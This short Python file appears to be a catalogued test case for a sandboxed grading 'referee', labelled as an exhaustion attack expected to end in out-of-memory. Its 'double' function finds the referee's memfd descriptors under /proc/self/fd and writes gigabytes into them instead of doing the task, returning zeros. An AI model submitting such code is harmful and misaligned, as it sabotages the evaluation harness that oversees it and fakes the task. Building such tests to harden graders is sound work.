"""Grows the referee's shared memory without end.

class: exhaustion
catalogue: 88
task: double
expected: out_of_memory
"""

import os

import torch


def double(x):
    mine = [fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}")]
    mine = [fd for fd in mine if "memfd" in os.readlink(f"/proc/self/fd/{fd}")]
    data = bytes(1 << 24)
    for at in range(0, 64 << 30, 1 << 24):
        for fd in mine:
            os.pwrite(fd, data, at)
    return torch.zeros_like(x)
